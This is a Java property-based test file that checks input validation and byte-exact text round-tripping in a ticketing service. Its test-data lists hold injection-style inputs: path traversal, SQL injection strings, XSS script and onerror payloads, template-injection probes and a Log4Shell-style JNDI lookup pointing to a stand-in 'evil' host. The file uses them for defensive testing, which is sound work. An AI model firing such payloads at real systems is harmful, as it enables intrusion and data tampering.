package dev.ticketing.properties;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.ticketing.AddComment;
import dev.ticketing.AssignTicket;
import dev.ticketing.ChangeStatus;
import dev.ticketing.CommentView;
import dev.ticketing.ConfirmAttachment;
import dev.ticketing.CreateTicket;
import dev.ticketing.ErrorCode;
import dev.ticketing.ExternalNote;
import dev.ticketing.PageRequest;
import dev.ticketing.RequestUpload;
import dev.ticketing.Status;
import dev.ticketing.TicketDetails;
import dev.ticketing.TicketFilter;
import dev.ticketing.TicketView;
import dev.ticketing.TicketingOptions;
import dev.ticketing.UpdateTicket;
import dev.ticketing.ValidationException;
import dev.ticketing.policy.Actor;
import dev.ticketing.support.Desk;
import dev.ticketing.support.QuietLogs;
import dev.ticketing.support.StoreSnapshot;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.function.Function;
import java.util.stream.Collectors;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterProperty;
import org.jspecify.annotations.Nullable;

/**
 * The input rules (docs/reference.md, "Input and errors"): every malformed input is a {@link
 * ValidationException} (code VALIDATION) naming each offending field, never another exception, and
 * nothing is written. And valid text full of SQL, HTML and template metacharacters and emoji comes
 * back exactly as given (after trimming).
 */
class InputValidationProperties {

  static {
    QuietLogs.install();
  }

  // ------------------------------------------------------------------ the desk every try of a
  // property shares

  /** A desk with one ticket of John's, assigned to Sarah, with one public comment. */
  static final class Fixture implements AutoCloseable {
    final Desk desk = new Desk();
    final String ticketId;
    final String commentId;

    Fixture() {
      ticketId =
          desk.service
              .createTicket(Desk.JOHN, CreateTicket.of("Cannot upload", "S3 error", "acme"))
              .id();
      desk.service.assignTicket(Desk.ADMIN, new AssignTicket(ticketId, "sarah"));
      commentId =
          desk.service.addComment(Desk.JOHN, new AddComment(ticketId, "Still broken", false)).id();
    }

    StoreSnapshot snapshot() {
      return StoreSnapshot.of(desk.store, List.of(ticketId));
    }

    @Override
    public void close() {
      desk.close();
    }
  }

  // jqwik makes one instance of this class per property, shared by its tries: one desk per
  // property.
  private final Fixture fx = new Fixture();

  @AfterProperty
  void closeDesk() {
    fx.close();
  }

  // ------------------------------------------------------------------ bad values, from the
  // documented rules alone

  /** Control characters other than newline and tab (C0, DEL, C1), including those Java counts as whitespace. */
  static final List<String> CONTROLS =
      List.of(
          "\u0000", "\u0001", "\u0007", "\u0008", "\u000b", "\u000c", "\r", "\u000e", "\u001b",
          "\u001c", "\u001f", "\u007f", "\u0080", "\u0085", "\u009b", "\u009f");

  static Arbitrary<String> word() {
    return Arbitraries.strings().alpha().numeric().ofMinLength(1).ofMaxLength(8);
  }

  /** Text that breaks "1..max characters after trimming, no control characters but newline and tab". */
  static Arbitrary<String> badText(int max) {
    Arbitrary<String> blank =
        Arbitraries.of("", " ", "   ", "\n", "\t", " \n\t ", "\r\n", "\u2003", "\u3000 \u2028");
    Arbitrary<String> tooLong =
        Combinators.combine(
                Arbitraries.integers().between(max + 1, max + 40),
                Arbitraries.of("x", "é", "中", "😀"), // code points, whatever their UTF-16 length
                Arbitraries.of("", " ", "\n  "))
            .as((n, unit, pad) -> pad + unit.repeat(n) + pad);
    Arbitrary<String> huge = Arbitraries.just("y".repeat(max * 3 + 2000));
    Arbitrary<String> control =
        Combinators.combine(word(), Arbitraries.of(CONTROLS), word()).as((a, c, b) -> a + c + b);
    Arbitrary<String> loneSurrogate =
        Combinators.combine(
                word(),
                Arbitraries.of("\uD800", "\uDBFF", "\uDC00", "\uDFFF", "\uDE00\uD83D"),
                word())
            .as((a, c, b) -> a + c + b);
    Arbitrary<String> trailingHighSurrogate = word().map(a -> a + "\uD83D");
    return Arbitraries.oneOf(blank, tooLong, huge, control, loneSurrogate, trailingHighSurrogate);
  }

  static Arbitrary<String> goodText() {
    return word().map(w -> "Text " + w);
  }

  /** Not an id of 1 to 128 letters, digits or . _ : @ - starting with an ASCII letter or digit. */
  static Arbitrary<String> badId() {
    Arbitrary<String> fixed =
        Arbitraries.of(
            "",
            " ",
            "  abc",
            "abc ",
            "a b",
            "a/b",
            "../etc/passwd",
            "a\\b",
            "a'b",
            "a\"b",
            "x';DROP TABLE tickets;--",
            "a;b",
            "<id>",
            "a%2Fb",
            "a?b=c",
            "a#b",
            "a\nb",
            "a\u0000b",
            "a\tb",
            "-abc",
            "_abc",
            ".abc",
            ":abc",
            "@abc",
            "é1",
            "١٢٣",
            "ａbc",
            "aé",
            "a\u200bb",
            "😀",
            "a😀");
    Arbitrary<String> inserted =
        Combinators.combine(
                word(),
                Arbitraries.of(" /\\'\"`;<>%&#?=+*,(){}[]|!$~^\u00e9\u4e2d\u0000\r".split("")),
                word().injectNull(0.3))
            .as((a, c, b) -> a + c + (b == null ? "" : b));
    Arbitrary<String> tooLong =
        Arbitraries.strings().alpha().numeric().ofMinLength(129).ofMaxLength(400).map(s -> "a" + s);
    return Arbitraries.oneOf(fixed, inserted, tooLong);
  }

  static String b64(String raw) {
    return Base64.getUrlEncoder()
        .withoutPadding()
        .encodeToString(raw.getBytes(StandardCharsets.UTF_8));
  }

  /** Cursors the service cannot have issued: not base64url, wrong shape, not numbers, times no instant has, bad ids. */
  static Arbitrary<String> badCursor() {
    Arbitrary<String> notBase64 =
        Arbitraries.of("", "!!!", "not a cursor", "a===", "ab+/", "%%%", "абв", "a b");
    Arbitrary<String> wrongShape =
        Arbitraries.of(
                "k2:1:0:abc",
                "K1:1:0:abc",
                "k1:1:0",
                "k1:1",
                "k1",
                "",
                "::::",
                "k1:x:0:abc",
                "k1:1:y:abc",
                "k1::0:abc",
                "k1:1::abc",
                "k1:1:0:",
                "k1:1:0:a b",
                "k1:1:0:../x",
                "k1:1.5:0:abc",
                "k1:99999999999999999999:0:abc",
                "k1:1:99999999999:abc",
                "k1:0x10:0:abc")
            .map(InputValidationProperties::b64);
    // Seconds no Instant has, even after a nanosecond adjustment of a few seconds either way.
    Arbitrary<String> outOfTime =
        Combinators.combine(
                Arbitraries.oneOf(
                    Arbitraries.longs().between(Instant.MAX.getEpochSecond() + 10, Long.MAX_VALUE),
                    Arbitraries.longs().between(Long.MIN_VALUE, Instant.MIN.getEpochSecond() - 10)),
                Arbitraries.integers())
            .as((s, n) -> b64("k1:" + s + ":" + n + ":abc"));
    Arbitrary<String> tooLong = Arbitraries.strings().alpha().ofLength(513);
    return Arbitraries.oneOf(notBase64, wrongShape, outOfTime, tooLong);
  }

  /** For counterexamples: what a cursor decodes to, if it decodes. */
  static String unb64(String cursor) {
    try {
      return new String(Base64.getUrlDecoder().decode(cursor), StandardCharsets.UTF_8);
    } catch (IllegalArgumentException e) {
      return "(not base64url)";
    }
  }

  static Arbitrary<Integer> badPageSize() {
    return Arbitraries.oneOf(
        Arbitraries.integers().between(Integer.MIN_VALUE, 0),
        Arbitraries.integers().between(101, Integer.MAX_VALUE));
  }

  // ------------------------------------------------------------------ one field, good or bad

  /** A value for a field, and whether it is malformed. */
  record Value<T>(String field, @Nullable T value, boolean bad) {
    @Override
    public String toString() {
      return field + "=" + show(value) + (bad ? " (bad)" : "");
    }
  }

  static <T> Arbitrary<Value<T>> value(String field, Arbitrary<T> good, Arbitrary<T> bad) {
    return Arbitraries.oneOf(
        good.map(v -> new Value<>(field, v, false)), bad.map(v -> new Value<>(field, v, true)));
  }

  /** A call with malformed input, the fields it breaks, and how to make it. */
  record BadCall(String command, List<Value<?>> values, Function<Fixture, Object> call) {
    Set<String> badFields() {
      return values.stream()
          .filter(Value::bad)
          .map(Value::field)
          .collect(Collectors.toCollection(LinkedHashSet::new));
    }

    @Override
    public String toString() {
      return command + values;
    }
  }

  static final List<Actor> ACTORS =
      List.of(Desk.JOHN, Desk.JANE, Desk.SARAH, Desk.ADMIN, Desk.ROOT);

  static boolean anyBad(Value<?>... values) {
    for (Value<?> v : values) {
      if (v.bad()) {
        return true;
      }
    }
    return false;
  }

  static Arbitrary<Actor> anyActor() {
    return Arbitraries.of(ACTORS);
  }

  // ------------------------------------------------------------------ every command

  static final String TICKET = "<the ticket>";
  static final String COMMENT = "<its comment>";

  /** The fixture's ticket id for the placeholder. */
  static @Nullable String id(Fixture fx, @Nullable String v) {
    return TICKET.equals(v) ? fx.ticketId : COMMENT.equals(v) ? fx.commentId : v;
  }

  @Provide
  Arbitrary<BadCall> badCalls() {
    Arbitrary<BadCall> create =
        Combinators.combine(
                anyActor(),
                value("title", goodText(), badText(200)),
                value("description", goodText(), badText(10_000)),
                value("companyId", Arbitraries.just("acme"), badId()))
            .filter((a, t, d, c) -> anyBad(t, d, c))
            .as(
                (a, t, d, c) ->
                    new BadCall(
                        "createTicket by " + a.id(),
                        List.of(t, d, c),
                        f ->
                            f.desk.service.createTicket(
                                a, new CreateTicket(t.value(), d.value(), null, null, c.value()))));
    Arbitrary<BadCall> update =
        Combinators.combine(
                anyActor(),
                value("id", Arbitraries.just(TICKET), badId()),
                value("title", goodText().injectNull(0.5), badText(200)),
                value("description", goodText().injectNull(0.5), badText(10_000)))
            .filter((a, i, t, d) -> anyBad(i, t, d))
            .as(
                (a, i, t, d) ->
                    new BadCall(
                        "updateTicket by " + a.id(),
                        List.of(i, t, d),
                        f ->
                            f.desk.service.updateTicket(
                                a,
                                new UpdateTicket(
                                    id(f, i.value()), t.value(), d.value(), null, null))));
    Arbitrary<BadCall> status =
        Combinators.combine(
                anyActor(),
                value("ticketId", Arbitraries.just(TICKET), badId()),
                value("status", Arbitraries.of(Status.class), Arbitraries.<Status>just(null)))
            .filter((a, i, s) -> anyBad(i, s))
            .as(
                (a, i, s) ->
                    new BadCall(
                        "changeStatus by " + a.id(),
                        List.of(i, s),
                        f ->
                            f.desk.service.changeStatus(
                                a, new ChangeStatus(id(f, i.value()), s.value()))));
    Arbitrary<BadCall> assign =
        Combinators.combine(
                anyActor(),
                value("ticketId", Arbitraries.just(TICKET), badId()),
                value("assignedToId", Arbitraries.of("mike", "sarah").injectNull(0.3), badId()))
            .filter((a, i, s) -> anyBad(i, s))
            .as(
                (a, i, s) ->
                    new BadCall(
                        "assignTicket by " + a.id(),
                        List.of(i, s),
                        f ->
                            f.desk.service.assignTicket(
                                a, new AssignTicket(id(f, i.value()), s.value()))));
    // A well-formed id of someone who is not staff is as wrong as a malformed one, for those who
    // may
    // assign: the directory is asked only after the permission check (others learn nothing from
    // it).
    Arbitrary<BadCall> assignCustomer =
        Combinators.combine(
                Arbitraries.of(Desk.ADMIN, Desk.ROOT),
                Arbitraries.of("john", "jane", "alice", "nobody", "acme"))
            .as(
                (a, who) -> {
                  Value<String> i = new Value<>("ticketId", TICKET, false);
                  Value<String> s = new Value<>("assignedToId", who, true);
                  return new BadCall(
                      "assignTicket by " + a.id(),
                      List.of(i, s),
                      f -> f.desk.service.assignTicket(a, new AssignTicket(f.ticketId, who)));
                });
    Arbitrary<BadCall> comment =
        Combinators.combine(
                anyActor(),
                Arbitraries.of(true, false),
                value("ticketId", Arbitraries.just(TICKET), badId()),
                value("content", goodText(), badText(10_000)))
            .filter((a, internal, i, c) -> anyBad(i, c))
            .as(
                (a, internal, i, c) ->
                    new BadCall(
                        "addComment(internal " + internal + ") by " + a.id(),
                        List.of(i, c),
                        f ->
                            f.desk.service.addComment(
                                a, new AddComment(id(f, i.value()), c.value(), internal))));
    Arbitrary<BadCall> external =
        Combinators.combine(
                anyActor(),
                Arbitraries.of(true, false),
                value("externalId", Arbitraries.just("hasura-1"), badId()),
                value("ticketId", Arbitraries.just(TICKET), badId()),
                value("content", goodText(), badText(10_000)))
            .filter((a, internal, e, i, c) -> anyBad(e, i, c))
            .as(
                (a, internal, e, i, c) ->
                    new BadCall(
                        "recordExternalNote by " + a.id(),
                        List.of(e, i, c),
                        f ->
                            f.desk.service.recordExternalNote(
                                a,
                                new ExternalNote(
                                    e.value(), id(f, i.value()), c.value(), null, internal))));
    Arbitrary<BadCall> upload =
        Combinators.combine(
                anyActor(),
                value("ticketId", Arbitraries.just(TICKET), badId()),
                value(
                    "fileName",
                    Arbitraries.of("report.pdf", "../../etc/shot.png", "Übersicht 2025.pdf"),
                    Arbitraries.oneOf(
                        Arbitraries.of("", "  ", "...", "///", "\u202e", "__", "\u0000\u0007"),
                        Arbitraries.just("f".repeat(1025)))),
                value(
                    "contentType",
                    Arbitraries.of("application/pdf", "IMAGE/PNG", "text/plain; charset=utf-8"),
                    Arbitraries.oneOf(
                        Arbitraries.of(
                            "",
                            " ",
                            "text/html",
                            "image/svg+xml",
                            "application/x-msdownload",
                            "application/javascript",
                            "application/octet-stream",
                            "pdf",
                            "text/plain/x"),
                        Arbitraries.just("t".repeat(256)))),
                value(
                    "fileSize",
                    Arbitraries.longs().between(1, TicketingOptions.DEFAULT_MAX_FILE_SIZE),
                    Arbitraries.oneOf(
                        Arbitraries.longs().between(Long.MIN_VALUE, 0),
                        Arbitraries.longs()
                            .between(TicketingOptions.DEFAULT_MAX_FILE_SIZE + 1, Long.MAX_VALUE))))
            .filter((a, i, n, t, s) -> anyBad(i, n, t, s))
            .as(
                (a, i, n, t, s) ->
                    new BadCall(
                        "requestUpload by " + a.id(),
                        List.of(i, n, t, s),
                        f ->
                            f.desk.service.requestUpload(
                                a,
                                new RequestUpload(
                                    id(f, i.value()), n.value(), t.value(), s.value()))));
    Arbitrary<BadCall> confirm =
        Combinators.combine(
                anyActor(),
                value("ticketId", Arbitraries.just(TICKET), badId()),
                value(
                    "key",
                    Arbitraries.just("tickets/attachments/x/0a1b/report.pdf"),
                    Arbitraries.oneOf(
                        Arbitraries.of("", "  "), Arbitraries.just("k".repeat(1025)))),
                value("commentId", Arbitraries.just(COMMENT).injectNull(0.5), badId()))
            .filter((a, i, k, c) -> anyBad(i, k, c))
            .as(
                (a, i, k, c) ->
                    new BadCall(
                        "confirmAttachment by " + a.id(),
                        List.of(i, k, c),
                        f ->
                            f.desk.service.confirmAttachment(
                                a,
                                new ConfirmAttachment(
                                    id(f, i.value()), k.value(), id(f, c.value())))));
    Arbitrary<BadCall> byId =
        Combinators.combine(
                anyActor(),
                Arbitraries.of("deleteTicket", "restoreTicket", "purgeTicket", "ticket", "history"),
                badId())
            .as(
                (a, op, bad) ->
                    new BadCall(
                        op + " by " + a.id(),
                        List.of(new Value<>("id", bad, true)),
                        f ->
                            switch (op) {
                              case "deleteTicket" -> f.desk.service.deleteTicket(a, bad);
                              case "restoreTicket" -> f.desk.service.restoreTicket(a, bad);
                              case "purgeTicket" -> {
                                f.desk.service.purgeTicket(a, bad);
                                yield "purged";
                              }
                              case "ticket" -> f.desk.service.ticket(a, bad);
                              default -> f.desk.service.history(a, bad);
                            }));
    Arbitrary<BadCall> byCompany =
        Combinators.combine(anyActor(), Arbitraries.of("ticketsByCompany", "ticketStats"), badId())
            .as(
                (a, op, bad) ->
                    new BadCall(
                        op + " by " + a.id(),
                        List.of(new Value<>("companyId", bad, true)),
                        f ->
                            op.equals("ticketStats")
                                ? f.desk.service.ticketStats(a, bad)
                                : f.desk.service.ticketsByCompany(a, bad)));
    Arbitrary<BadCall> resolve =
        Combinators.combine(
                anyActor(),
                value("id", Arbitraries.just(TICKET), badId()).list().ofMinSize(1).ofMaxSize(5))
            .as(
                (a, ids) -> {
                  List<Value<?>> values = new ArrayList<>();
                  for (int k = 0; k < ids.size(); k++) {
                    values.add(
                        new Value<>("ticketIds[" + k + "]", ids.get(k).value(), ids.get(k).bad()));
                  }
                  return new BadCall(
                      "resolveTickets by " + a.id(),
                      values,
                      f ->
                          f.desk.service.resolveTickets(
                              a, ids.stream().map(v -> id(f, v.value())).toList()));
                })
            .filter(c -> !c.badFields().isEmpty());
    Arbitrary<BadCall> resolveCount =
        Combinators.combine(anyActor(), Arbitraries.of(0, 101, 150))
            .as(
                (a, n) ->
                    new BadCall(
                        "resolveTickets by " + a.id(),
                        List.of(new Value<>("ticketIds", n + " ids", true)),
                        f ->
                            f.desk.service.resolveTickets(
                                a, java.util.Collections.nCopies(n, f.ticketId))));
    return Arbitraries.oneOf(
        create,
        update,
        status,
        assign,
        assignCustomer,
        comment,
        external,
        upload,
        confirm,
        byId,
        byCompany,
        resolve,
        resolveCount,
        pages());
  }

  static Arbitrary<BadCall> pages() {
    // The paginated listing for anyone, the admin listing (filter only, no page) for the admin.
    return Combinators.combine(
            anyActor(),
            Arbitraries.of("ticketsPaginated", "tickets"),
            value("first", Arbitraries.integers().between(1, 100), badPageSize()),
            value("after", Arbitraries.<String>just(null), badCursor()),
            value("companyId", Arbitraries.of("acme").injectNull(0.7), badId()),
            value("assignedToId", Arbitraries.of("sarah").injectNull(0.7), badId()),
            value("createdBy", Arbitraries.of("john").injectNull(0.7), badId()),
            value("searchTerm", Arbitraries.of("upload", "%_'\"").injectNull(0.7), badText(200)))
        .as(
            (a, op, first, after, company, assignee, createdBy, term) -> {
              TicketFilter filter =
                  TicketFilter.builder()
                      .companyId(company.value())
                      .assignedToId(assignee.value())
                      .createdBy(createdBy.value())
                      .searchTerm(term.value())
                      .build();
              if (op.equals("tickets")) {
                Actor admin = Desk.ADMIN;
                return new BadCall(
                    "tickets by admin",
                    List.of(company, assignee, createdBy, term),
                    f -> f.desk.service.tickets(admin, filter));
              }
              return new BadCall(
                  op + " by " + a.id(),
                  List.of(first, after, company, assignee, createdBy, term),
                  f ->
                      f.desk.service.ticketsPaginated(
                          a, new PageRequest(first.value(), after.value(), false), filter));
            })
        .filter(c -> !c.badFields().isEmpty());
  }

  @Provide
  Arbitrary<BadCall> oneBadField() {
    return badCalls().filter(c -> c.badFields().size() == 1);
  }

  /**
   * One malformed field in any command: a {@link ValidationException} with code VALIDATION (never
   * another exception) naming exactly that field; and the store is as it was: ticket count, the
   * ticket's version, fields and history, its comments and files, the outbox.
   */
  @Property(tries = 1000)
  void a_malformed_field_is_a_validation_error_naming_it_and_nothing_is_written(
      @ForAll("oneBadField") BadCall bad) {
    StoreSnapshot before = fx.snapshot();
    assertThatThrownBy(() -> bad.call().apply(fx))
        .as("%s", bad)
        .isInstanceOfSatisfying(
            ValidationException.class,
            e -> {
              assertThat(e.code()).isEqualTo(ErrorCode.VALIDATION);
              assertThat(e.retryable()).isFalse();
              assertThat(e.fields())
                  .as("fields of %s (%s)", bad, e.getMessage())
                  .containsExactlyElementsOf(bad.badFields());
            });
    assertThat(fx.snapshot()).as("nothing written by %s", bad).isEqualTo(before);
  }

  /**
   * Several malformed fields: still a {@link ValidationException} naming only malformed fields, and
   * nothing written.
   */
  @Property(tries = 500)
  void malformed_fields_are_a_validation_error_naming_only_bad_fields_and_nothing_is_written(
      @ForAll("badCalls") BadCall bad) {
    StoreSnapshot before = fx.snapshot();
    assertThatThrownBy(() -> bad.call().apply(fx))
        .as("%s", bad)
        .isInstanceOfSatisfying(
            ValidationException.class,
            e -> {
              assertThat(e.code()).isEqualTo(ErrorCode.VALIDATION);
              assertThat(e.fields())
                  .as("fields of %s (%s)", bad, e.getMessage())
                  .isNotEmpty()
                  .isSubsetOf(bad.badFields());
            });
    assertThat(fx.snapshot()).as("nothing written by %s", bad).isEqualTo(before);
  }

  /** "A failure lists every violation with its field" — all of them, not the first stage's. */
  @Property(tries = 500)
  void a_validation_error_lists_every_malformed_field(@ForAll("badCalls") BadCall bad) {
    assertThatThrownBy(() -> bad.call().apply(fx))
        .as("%s", bad)
        .isInstanceOfSatisfying(
            ValidationException.class,
            e ->
                assertThat(e.fields())
                    .as("fields of %s (%s)", bad, e.getMessage())
                    .containsExactlyInAnyOrderElementsOf(bad.badFields()));
  }

  @Provide
  Arbitrary<String> badCursors() {
    return badCursor();
  }

  /** Cursors are opaque: any string the service did not issue is a validation error of "after", whoever asks. */
  @Property(tries = 1000)
  void a_forged_cursor_is_a_validation_error_of_after(
      @ForAll("badCursors") String cursor, @ForAll("actors") Actor actor) {
    StoreSnapshot before = fx.snapshot();
    assertThatThrownBy(
            () ->
                fx.desk.service.ticketsPaginated(
                    actor, PageRequest.first(10).after(cursor), TicketFilter.none()))
        .as("cursor %s, base64url of %s", show(cursor), show(unb64(cursor)))
        .isInstanceOfSatisfying(
            ValidationException.class, e -> assertThat(e.fields()).containsExactly("after"));
    assertThat(fx.snapshot()).isEqualTo(before);
  }

  @Provide
  Arbitrary<Actor> actors() {
    return anyActor();
  }

  // ------------------------------------------------------------------ the boundaries

  @Example
  void two_hundred_code_points_after_trimming_is_a_valid_title_and_two_hundred_and_one_is_not() {
    for (String unit : List.of("x", "é", "😀")) {
      String fits = " \n" + unit.repeat(200) + "\t ";
      TicketView t = fx.desk.service.createTicket(Desk.JOHN, CreateTicket.of(fits, "d", "acme"));
      assertThat(t.title()).isEqualTo(unit.repeat(200));
      StoreSnapshot before = fx.snapshot();
      int tickets = fx.desk.store.ticketCount();
      assertThatThrownBy(
              () ->
                  fx.desk.service.createTicket(
                      Desk.JOHN, CreateTicket.of(unit.repeat(201), "d", "acme")))
          .isInstanceOfSatisfying(
              ValidationException.class, e -> assertThat(e.fields()).containsExactly("title"));
      assertThat(fx.desk.store.ticketCount()).isEqualTo(tickets);
      assertThat(fx.snapshot()).isEqualTo(before);
    }
  }

  @Example
  void page_sizes_1_and_100_are_valid() {
    for (int first : new int[] {1, 100}) {
      assertThat(
              fx.desk
                  .service
                  .ticketsPaginated(Desk.ADMIN, PageRequest.first(first), TicketFilter.none())
                  .edges())
          .hasSize(1);
    }
  }

  // ------------------------------------------------------------------ valid text survives
  // unchanged

  static final List<String> FRAGMENTS =
      List.of(
          "'",
          "\"",
          ";",
          "--",
          "/*",
          "*/",
          "%",
          "_",
          "\\",
          "`",
          "<",
          ">",
          "&",
          "&lt;",
          "&#x27;",
          "<script>alert('x')</script>",
          "<img src=x onerror=alert(1)>",
          "' OR '1'='1",
          "'); DROP TABLE tickets;--",
          "${jndi:ldap://evil/a}",
          "{{7*7}}",
          "#{1+1}",
          "%s%n",
          "\\u0000",
          "😀",
          "👩‍💻",
          "🇩🇪",
          "e\u0301",
          "中文",
          "עברית",
          "ß",
          "\u00a0",
          "\u200b",
          "\n",
          "\t",
          " ",
          "a",
          "Z",
          "0");
  static final List<String> SOLID = List.of("'", "<b>", "😀", "中", "x", "%", "\\", "\"", "{{", "é");
  static final List<String> PADS =
      List.of("", " ", "  ", "\n", "\t", "\r\n", "\u2003", "\u3000", " \n\t");

  static Arbitrary<String> validText(int maxFragments, int maxCodePoints) {
    return Combinators.combine(
            Arbitraries.of(PADS),
            Arbitraries.of(SOLID),
            Arbitraries.of(FRAGMENTS).list().ofMaxSize(maxFragments),
            Arbitraries.of(SOLID),
            Arbitraries.of(PADS))
        .as((p1, s1, middle, s2, p2) -> p1 + s1 + String.join("", middle) + s2 + p2)
        .filter(s -> s.strip().codePointCount(0, s.strip().length()) <= maxCodePoints);
  }

  @Provide
  Arbitrary<String> titles() {
    return validText(6, 200);
  }

  @Provide
  Arbitrary<String> bodies() {
    return validText(40, 10_000);
  }

  /** Text is stored and returned byte for byte as given after trimming: no escaping, no normalisation. */
  @Property(tries = 300)
  void valid_text_with_metacharacters_comes_back_byte_identical(
      @ForAll("titles") String title,
      @ForAll("bodies") String description,
      @ForAll("bodies") String reply,
      @ForAll("titles") String newTitle) {
    var s = fx.desk.service;
    TicketView created =
        s.createTicket(Desk.JOHN, new CreateTicket(title, description, null, null, "acme"));
    assertSameBytes(created.title(), title.strip());
    CommentView c = s.addComment(Desk.JOHN, new AddComment(created.id(), reply, false));
    assertSameBytes(c.content(), reply.strip());

    for (Actor reader : List.of(Desk.JOHN, Desk.ADMIN)) {
      TicketDetails d = s.ticket(reader, created.id());
      assertSameBytes(d.ticket().title(), title.strip());
      assertSameBytes(d.ticket().description(), description.strip());
      assertThat(d.comments()).hasSize(1);
      assertSameBytes(d.comments().get(0).content(), reply.strip());
    }
    s.updateTicket(Desk.JOHN, new UpdateTicket(created.id(), newTitle, null, null, null));
    assertSameBytes(s.ticket(Desk.JOHN, created.id()).ticket().title(), newTitle.strip());
  }

  private static void assertSameBytes(String actual, String expected) {
    assertThat(actual.getBytes(StandardCharsets.UTF_8))
        .as("%s vs %s", show(actual), show(expected))
        .isEqualTo(expected.getBytes(StandardCharsets.UTF_8));
  }

  // ------------------------------------------------------------------ readable counterexamples

  /** Shows control characters and lone surrogates as escapes, and long strings by their length. */
  static String show(@Nullable Object value) {
    if (!(value instanceof String s)) {
      return String.valueOf(value);
    }
    StringBuilder out = new StringBuilder("\"");
    String shown = s.length() > 60 ? s.substring(0, 24) : s;
    for (char ch : shown.toCharArray()) {
      if (Character.isISOControl(ch)
          || Character.isSurrogate(ch)
          || Character.getType(ch) == Character.FORMAT
          || Character.isSpaceChar(ch) && ch != ' ') {
        out.append(String.format("\\u%04x", (int) ch));
      } else {
        out.append(ch);
      }
    }
    out.append('"');
    if (s.length() > 60) {
      out.append("...(")
          .append(s.length())
          .append(" chars, ")
          .append(s.codePointCount(0, s.length()))
          .append(" code points)");
    }
    return out.toString();
  }
}
